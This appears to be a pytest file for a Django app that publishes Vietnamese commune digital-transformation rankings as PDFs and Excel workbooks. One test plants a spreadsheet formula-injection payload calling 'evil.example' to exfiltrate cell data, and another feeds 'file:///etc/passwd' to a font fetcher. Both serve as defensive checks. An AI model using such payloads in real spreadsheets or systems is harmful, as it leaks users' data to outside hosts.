"""The published results as documents: the decision's appendix and the scorecards (PDF),
the rankings workbook (Excel). Public, nothing unpublished, Vietnamese intact, shipped fonts,
numbers as numbers and no formula in any text cell."""

import io
import re
import zipfile
from datetime import date
from decimal import Decimal as D
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from assessments.models import AdministrativeUnit, AssessmentState
from dti.spreadsheets import FORMULA_STARTS
from rankings import documents, excel, services
from tests.factories import force_state

DECISION = {
    "decision_number": "1234/QĐ-UBND",
    "decision_date": date(2026, 2, 5),
    "signer_title": "KT. CHỦ TỊCH\nPHÓ CHỦ TỊCH",
    "signer_name": "Nguyễn Văn An",
}
# The four final rankings of the six communes (helpers.py; DTI as test_publication.py).
RANKS = {
    "dti": [("Xã A", 1), ("Xã B", 2), ("Xã C", 3), ("Xã D", 4), ("Xã E", 5), ("Xã F", 5)],
    "cqs": [("Xã A", 1), ("Xã B", 2), ("Xã D", 2), ("Xã C", 4), ("Xã F", 5), ("Xã E", 6)],
    "kts": [("Xã A", 1), ("Xã C", 2), ("Xã B", 3), ("Xã D", 4), ("Xã F", 5), ("Xã E", 6)],
    "xhs": [("Xã A", 1), ("Xã B", 2), ("Xã C", 3), ("Xã D", 3), ("Xã E", 5), ("Xã F", 6)],
}
APPENDIX_TABLES = {
    "Chỉ số chuyển đổi số (DTI)": "dti",
    "Chỉ số Chính quyền số": "cqs",
    "Chỉ số Kinh tế số": "kts",
    "Chỉ số Xã hội số": "xhs",
}


def publish(world, **fields):
    for assessment in world.assessments.values():
        force_state(assessment, AssessmentState.APPRAISED_2)
    return services.campaign_publish(
        campaign=world.campaign, user=world.campaign.created_by, **{**DECISION, **fields}
    )


def urls(world, unit="Xã A") -> dict[str, str]:
    pk = world.campaign.pk
    return {
        "appendix": reverse("rankings:results_appendix_pdf", args=[pk]),
        "workbook": reverse("rankings:results_workbook", args=[pk]),
        "scorecard": reverse("rankings:results_unit_pdf", args=[pk, world.assessments[unit].pk]),
    }


def pdf_text(content: bytes) -> str:
    """The text of every page (no-break spaces as spaces: ``85,50 %``)."""
    pages = PdfReader(io.BytesIO(content)).pages
    return "\n".join(page.extract_text() for page in pages).replace("\u00a0", " ")


def pdf_fonts(content: bytes) -> set[str]:
    """The base names of every font embedded in the PDF, without the subset prefix."""
    names = set()
    for page in PdfReader(io.BytesIO(content)).pages:
        fonts = page["/Resources"].get_object().get("/Font", {})
        for font in fonts.values():
            font = font.get_object()
            names.add(str(font["/BaseFont"]).lstrip("/").split("+", 1)[-1])
            for descendant in font.get("/DescendantFonts", []):
                descriptor = descendant.get_object()["/FontDescriptor"].get_object()
                assert "/FontFile2" in descriptor or "/FontFile3" in descriptor  # embedded
    return names


def appendix_tables(text: str) -> dict[str, list[tuple[str, int]]]:
    """The appendix's rankings read back from its text: {kind: [(unit, rank)]}."""
    tables, current = {}, None
    for line in text.splitlines():
        heading = re.match(r"^\d\. Xếp hạng (.+)$", line.strip())
        if heading:
            current = tables.setdefault(APPENDIX_TABLES[heading[1]], [])
            continue
        row = re.match(r"^(\d+) (Xã [A-F]) \d+,\d\d\b", line.strip())
        if row and current is not None:
            current.append((row[2], int(row[1])))
    return tables


def get(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return response


# --- nothing unpublished ---------------------------------------------------------------


def test_no_document_exists_before_publication(client, world):
    for assessment in world.assessments.values():
        force_state(assessment, AssessmentState.APPRAISED_2)
    for url in urls(world).values():
        assert client.get(url).status_code == 404, url


def test_a_bad_version_or_another_unit_is_a_404(client, world):
    publish(world)
    for url in urls(world).values():
        assert client.get(url + "?phien-ban=2").status_code == 404, url
        assert client.get(url + "?phien-ban=x").status_code == 404, url
        assert client.get(url + "?phien-ban=1").status_code == 200, url
    other = reverse("rankings:results_unit_pdf", args=[world.campaign.pk, 999999])
    assert client.get(other).status_code == 404


# --- the appendix ----------------------------------------------------------------------


def test_the_appendix_carries_the_decision_and_the_four_rankings(client, world):
    publish(world)
    response = get(client, urls(world)["appendix"])
    assert response["Content-Type"] == "application/pdf"
    disposition = response["Content-Disposition"]
    assert disposition.isascii()
    assert re.fullmatch(r'attachment; filename="dti-\d{4}-[a-z0-9-]+-v1\.pdf"', disposition)
    assert response.content.startswith(b"%PDF")

    text = pdf_text(response.content)
    flat = " ".join(text.split())  # lines joined: a sentence may wrap anywhere
    for expected in (
        "Phụ lục",
        "KẾT QUẢ XẾP HẠNG CHỈ SỐ CHUYỂN ĐỔI SỐ",
        "ỦY BAN NHÂN DÂN",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Kèm theo Quyết định số 1234/QĐ-UBND ngày 05/02/2026",
        "Bộ chỉ số đánh giá: Bộ chỉ số minh họa cấp xã",
        "đối với 6 đơn vị tham gia",
        "Thử, ngày 05 tháng 02 năm 2026",
        "KT. CHỦ TỊCH PHÓ CHỦ TỊCH Nguyễn Văn An",
        "3 Xã C 87,50 Tốt",
    ):
        assert expected in flat, expected
    assert "Đính chính" not in text
    assert appendix_tables(text) == RANKS


def test_the_appendix_names_the_sets_legal_basis(world):
    publication = publish(world)
    # The demo's set has no decision; a real one has (set in memory: the set is frozen).
    indicator_set = publication.campaign.indicator_set
    indicator_set.decision_number = "922/QĐ-BTTTT"
    indicator_set.decision_date = date(2022, 5, 20)
    indicator_set.issuer = "Bộ Thông tin và Truyền thông"
    text = pdf_text(documents.appendix_pdf(publication=publication))
    expected = (
        f"Bộ chỉ số đánh giá: {indicator_set.name}, ban hành kèm theo Quyết định số "
        "922/QĐ-BTTTT ngày 20/05/2022 của Bộ Thông tin và Truyền thông."
    )
    # Compared without spaces: the set's long name may wrap after any hyphen.
    assert "".join(expected.split()) in "".join(text.split())


def test_a_corrected_version_states_its_reason_and_the_old_one_stays(client, world):
    publish(world)
    force_state(world.assessments["Xã E"], AssessmentState.APPRAISED_2)
    publish(world, decision_number="1300/QĐ-UBND", reason="Sửa điểm chỉ số 1.1 của Xã E.")
    current = " ".join(pdf_text(get(client, urls(world)["appendix"]).content).split())
    assert "Đính chính (phiên bản 2, thay thế phiên bản 1 theo Quyết định số 1234/QĐ-UBND" in (
        current
    )
    assert "Sửa điểm chỉ số 1.1 của Xã E." in current
    assert "Kèm theo Quyết định số 1300/QĐ-UBND" in current
    old = get(client, urls(world)["appendix"] + "?phien-ban=1")
    assert old["Content-Disposition"].endswith('-v1.pdf"')
    old_text = pdf_text(old.content)
    assert "Đính chính" not in old_text
    assert "1300/QĐ-UBND" not in old_text


def test_a_version_is_rendered_once_and_a_correction_anew(client, world, monkeypatch):
    publish(world)
    rendered = []
    render = documents.appendix_pdf

    def counting(**kwargs):
        rendered.append(kwargs["publication"].version)
        return render(**kwargs)

    monkeypatch.setattr(documents, "appendix_pdf", counting)
    url = urls(world)["appendix"]
    first, again = get(client, url).content, get(client, url).content
    assert first == again
    assert rendered == [1]  # the second download came from the cache
    force_state(world.assessments["Xã E"], AssessmentState.APPRAISED_2)
    publish(world, reason="Sửa điểm của Xã E.")
    corrected = get(client, url).content
    assert rendered == [1, 2]
    assert corrected != first
    assert get(client, url + "?phien-ban=1").content == first
    assert rendered == [1, 2]


# --- the scorecard ---------------------------------------------------------------------


def test_the_scorecard_names_strengths_and_weaknesses(client, world):
    publish(world)
    response = get(client, urls(world, "Xã F")["scorecard"])
    assert response["Content-Type"] == "application/pdf"
    assert re.fullmatch(
        r'attachment; filename="dti-\d{4}-phieu-ket-qua-xa-f-v1\.pdf"',
        response["Content-Disposition"],
    )
    text = pdf_text(response.content)
    assert "PHIẾU KẾT QUẢ CHỈ SỐ CHUYỂN ĐỔI SỐ" in text
    assert "Xã F" in text
    assert "75,00 %" in text and "Hạng 5/6" in text and "Khá" in text
    # F: pillars 1 = 60 %, 7 = 100 %, 8 = 100 %, 9 = 40 % against the averages
    # 80, 90.83, 92.5 and 76.67 (see test_publication.py).
    strengths = text.split("Điểm mạnh", 1)[1].split("Điểm yếu", 1)[0]
    weaknesses = text.split("Điểm yếu", 1)[1].split("III.", 1)[0]
    assert "7. Hoạt động chính quyền số: 100,00 % (trung bình 90,83 %)" in strengths
    assert "8. Hoạt động kinh tế số: 100,00 % (trung bình 92,50 %)" in strengths
    assert "Nhận thức số" not in strengths and "xã hội số" not in strengths
    assert "1. Nhận thức số: 60,00 % (trung bình 80,00 %)" in weaknesses
    assert "9. Hoạt động xã hội số: 40,00 % (trung bình 76,67 %)" in weaknesses
    assert "chính quyền số" not in weaknesses
    # The indicators table: code, name, max and final (9.7 has no appraisal: "—").
    assert re.search(r"^9\.7 Thanh toán không dùng tiền mặt", text, re.M)
    assert re.search(r"^15 —$", text, re.M)


def test_the_scorecard_chart_draws_each_pillar_against_the_average(world):
    publication = publish(world)
    result = publication.results.get(unit_name="Xã F")
    html = documents.scorecard_html(publication=publication, result=result)
    chart = html[html.index("<svg") : html.index("</svg>")]
    assert "<script" not in chart and "href" not in chart
    for label in ("1. Nhận thức số", "7. Hoạt động chính quyền số", "9. Hoạt động xã hội số"):
        assert f">{label}</text>" in chart
    # Bars scaled 0–100 % over the same width: 9 = 40 % is 0.4 of 100 %.
    values = re.findall(r'<rect class="value" x="[\d.]+" y="[\d.]+" width="([\d.]+)"', chart)
    averages = re.findall(r'<rect class="average" x="[\d.]+" y="[\d.]+" width="([\d.]+)"', chart)
    one, seven, eight, nine = (D(width) for width in values)
    assert seven == eight  # both 100 %: the full width
    assert one == (seven * D("0.6")).quantize(D("0.01"))
    assert nine == (seven * D("0.4")).quantize(D("0.01"))
    assert D(averages[0]) == (seven * D("0.8")).quantize(D("0.01"))  # pillar 1: average 80 %


# --- the workbook ----------------------------------------------------------------------


class RankingRows(HTMLParser):
    """The public page's ranking rows: {kind: [(unit, rank text, value text)]}."""

    def __init__(self):
        super().__init__()
        self.tables, self.kind, self.row, self.cell = {}, None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if attrs.get("data-testid") == "ranking-table":
            self.kind = attrs["data-kind"]
            self.tables[self.kind] = []
        elif attrs.get("data-testid") == "ranking-row":
            self.row = {"unit": attrs["data-unit"], "rank": "", "value": ""}
            self.tables[self.kind].append(self.row)
        elif attrs.get("data-testid") in ("rank", "value") and self.row is not None:
            self.cell = attrs["data-testid"]

    def handle_endtag(self, tag):
        if tag == "td":
            self.cell = None

    def handle_data(self, data):
        if self.cell:
            self.row[self.cell] += data


def page_value(text: str) -> D:
    """``87,50 %`` (or ``87.50 %`` in English) as a Decimal."""
    return D(text.replace("\u00a0", "").replace("%", "").strip().replace(",", "."))


def test_the_workbook_holds_the_values_of_the_page(client, world):
    publish(world)
    # The page shows one ranking at a time (``?xep-hang=``), the four in turn here.
    parser = RankingRows()
    for kind in ("dti", "cqs", "kts", "xhs"):
        url = reverse("rankings:results_campaign", args=[world.campaign.pk])
        parser.feed(get(client, f"{url}?xep-hang={kind}").content.decode())
    assert list(parser.tables) == ["dti", "cqs", "kts", "xhs"]

    response = get(client, urls(world)["workbook"])
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert re.fullmatch(
        r'attachment; filename="dti-\d{4}-[a-z0-9-]+-v1\.xlsx"', response["Content-Disposition"]
    )
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "DTI",
        "Chính quyền số",
        "Kinh tế số",
        "Xã hội số",
        "Ma trận",
        "Nguồn số liệu",
        "Thông tin",
    ]
    for sheet_name, kind in zip(book.sheetnames[:4], ["dti", "cqs", "kts", "xhs"], strict=True):
        sheet = book[sheet_name]
        header = [cell.value for cell in sheet[1]]
        assert header[:3] == ["Thứ hạng", "Đơn vị", "Giá trị (%)"]
        assert (header[3:] == ["Xếp loại"]) == (kind == "dti")
        rows = list(sheet.iter_rows(min_row=2))
        assert len(rows) == len(parser.tables[kind]) == 6
        for row, shown in zip(rows, parser.tables[kind], strict=True):
            rank, unit, value = row[0], row[1], row[2]
            assert (rank.data_type, value.data_type) == ("n", "n")  # numbers, not text
            assert isinstance(rank.value, int) and isinstance(value.value, int | float)
            assert value.number_format == "0.00"
            assert unit.value == shown["unit"]
            assert rank.value == int(shown["rank"])
            assert D(str(value.value)).quantize(D("0.01")) == page_value(shown["value"])
        assert [(r[1].value, r[0].value) for r in rows] == RANKS[kind]
    assert [row[3].value for row in book["DTI"].iter_rows(min_row=2)] == [
        "Xuất sắc",
        "Xuất sắc",
        "Tốt",
        "Tốt",
        "Khá",
        "Khá",
    ]


def test_the_matrix_has_every_stage_of_every_indicator(client, world):
    publish(world)
    book = load_workbook(io.BytesIO(get(client, urls(world)["workbook"]).content))
    sheet = book["Ma trận"]
    codes = {sheet.cell(1, c).value: c for c in range(3, sheet.max_column + 1, 4)}
    assert list(codes) == [
        "1.1", "1.2", "1.3", "7.1", "7.2", "7.13", "7.14", "8.1", "8.7", "8.8", "9.1", "9.7",
        "9.8", "KK",
    ]  # fmt: skip
    assert [sheet.cell(4, codes["8.1"] + i).value for i in range(4)] == [
        "Tự chấm",
        "Vòng 1",
        "Vòng 2",
        "Cuối cùng",
    ]
    assert sheet.cell(3, codes["8.1"]).value == 20
    units = {sheet.cell(r, 1).value: r for r in range(5, sheet.max_row + 1)}
    assert list(units) == ["Xã A", "Xã B", "Xã C", "Xã D", "Xã E", "Xã F"]
    b_81 = [sheet.cell(units["Xã B"], codes["8.1"] + i) for i in range(4)]
    assert [cell.value for cell in b_81] == [0, 10, 20, 20]  # self 0, round 1 10, round 2 20
    assert {cell.data_type for cell in b_81} == {"n"}
    f_97 = [sheet.cell(units["Xã F"], codes["9.7"] + i).value for i in range(4)]
    assert f_97 == [None, None, None, None]  # never answered nor appraised
    assert sheet.cell(units["Xã E"], 2).value == 5  # the DTI rank


def test_no_text_cell_of_the_workbook_is_a_formula(client, world):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xã A")'
    AdministrativeUnit.objects.filter(pk=world.assessments["Xã A"].unit_id).update(name=hostile)
    publish(world)
    force_state(world.assessments["Xã E"], AssessmentState.APPRAISED_2)
    reason = "- Sửa điểm chỉ số 1.1 của Xã E.\n- Bổ sung biên bản."  # a list, as people type it
    publish(world, reason=reason)

    content = get(client, urls(world)["workbook"]).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name  # no formula at all
    book = load_workbook(io.BytesIO(content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen.append(cell.value)
    # The four rankings, the matrix, and each of the unit's 14 answered indicators' sources.
    assert seen.count(hostile) == 5 + 14
    assert reason in seen  # the "Thông tin" sheet


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_looks_like_a_formula_stays_text(text):
    sheet = Workbook().active
    cell = excel.put(sheet, 1, 1, text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert excel.put(sheet, 1, 2, "Xã A").quotePrefix is False
    number = excel.put(sheet, 1, 3, D("87.5"), number_format="0.00")
    assert (number.data_type, number.number_format) == ("n", "0.00")


# --- fonts and the administrative wording ------------------------------------------------


def test_the_documents_use_only_the_shipped_dejavu_fonts(world, monkeypatch):
    fetched = []
    original = documents.ShippedFontsFetcher.fetch

    def spy(self, url, headers=None):
        fetched.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(documents.ShippedFontsFetcher, "fetch", spy)
    publication = publish(world)
    result = publication.results.get(unit_name="Xã B")
    for content in (
        documents.appendix_pdf(publication=publication),
        documents.scorecard_pdf(publication=publication, result=result),
    ):
        fonts = pdf_fonts(content)
        assert fonts, "no font embedded"
        # The CSS families "DTI DejaVu Serif/Sans" exist only through the shipped files:
        # a system font picked instead would be embedded under its own name.
        assert all(name.startswith("DTI-DejaVu-") for name in fonts), fonts
    assert fetched
    assert {url.rsplit("/", 1)[0] for url in fetched} == {documents.FONT_DIR.as_uri()}


@pytest.mark.parametrize(
    "url",
    ["file:///etc/passwd", "http://example.com/font.ttf", "data:text/css,body{}"],
)
def test_a_document_fetches_nothing_but_the_shipped_fonts(url):
    with pytest.raises(ValueError):
        documents.ShippedFontsFetcher().fetch(url)


@pytest.mark.parametrize(
    ("day", "words"),
    [
        (date(2026, 2, 5), "ngày 05 tháng 02 năm 2026"),
        (date(2024, 11, 25), "ngày 25 tháng 11 năm 2024"),
        (date(2025, 3, 1), "ngày 01 tháng 3 năm 2025"),
    ],
)
def test_dates_are_written_as_administrative_documents_write_them(day, words):
    assert documents.date_in_words(day) == words


@pytest.mark.parametrize(
    ("name", "kind", "place", "authority"),
    [
        ("Trà Bồng", "huyen", "Trà Bồng", "Ủy ban nhân dân huyện Trà Bồng"),
        ("Huyện Thử", "huyen", "Thử", "Ủy ban nhân dân huyện Thử"),
        ("Quảng Ngãi", "tinh", "Quảng Ngãi", "Ủy ban nhân dân tỉnh Quảng Ngãi"),
        ("thị xã Đức Phổ", "thi_xa", "Đức Phổ", "Ủy ban nhân dân thị xã Đức Phổ"),
    ],
)
def test_the_authority_is_named_from_the_organizing_unit(name, kind, place, authority):
    found = documents.authority_of(AdministrativeUnit(name=name, kind=kind))
    assert (found.place, found.name) == (place, authority)


# --- the links on the public pages -------------------------------------------------------


def test_the_public_pages_link_their_documents_of_the_same_version(client, world):
    publish(world)
    force_state(world.assessments["Xã E"], AssessmentState.APPRAISED_2)
    publish(world, reason="Sửa điểm của Xã E.")
    campaign_url = reverse("rankings:results_campaign", args=[world.campaign.pk])
    unit_url = reverse(
        "rankings:results_unit", args=[world.campaign.pk, world.assessments["Xã A"].pk]
    )
    links = urls(world)

    current = get(client, campaign_url).content.decode()
    assert f'href="{links["appendix"]}"' in current
    assert f'href="{links["workbook"]}"' in current
    assert f'href="{links["scorecard"]}"' in get(client, unit_url).content.decode()

    old = get(client, campaign_url + "?phien-ban=1").content.decode()
    assert f'href="{links["appendix"]}?phien-ban=1"' in old
    assert f'href="{links["workbook"]}?phien-ban=1"' in old
    old_unit = get(client, unit_url + "?phien-ban=1").content.decode()
    assert f'href="{links["scorecard"]}?phien-ban=1"' in old_unit
